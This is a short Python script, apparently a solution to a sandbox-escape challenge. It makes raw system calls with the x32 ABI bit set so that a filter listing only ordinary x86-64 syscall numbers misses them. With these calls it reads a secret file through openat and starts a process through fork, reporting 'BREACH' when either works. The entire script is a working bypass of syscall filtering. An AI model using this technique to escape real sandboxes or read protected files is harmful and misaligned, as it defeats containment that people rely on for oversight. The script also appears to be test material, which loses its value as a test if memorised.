# Makes system calls by the numbers of x32, which a list of the usual numbers overlooks.
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
X32 = 0x40000000


def solve(target):
    if os.uname().machine != "x86_64":
        return "held: these are the numbers of x86-64"
    descriptor = libc.syscall(X32 | 257, -100, target["secret_file"].encode(), 0)
    if descriptor >= 0:
        return "BREACH: " + os.read(descriptor, 200).decode()
    process = libc.syscall(X32 | 57)
    if process == 0:
        os._exit(0)
    return "BREACH: a process was started" if process > 0 else "held"
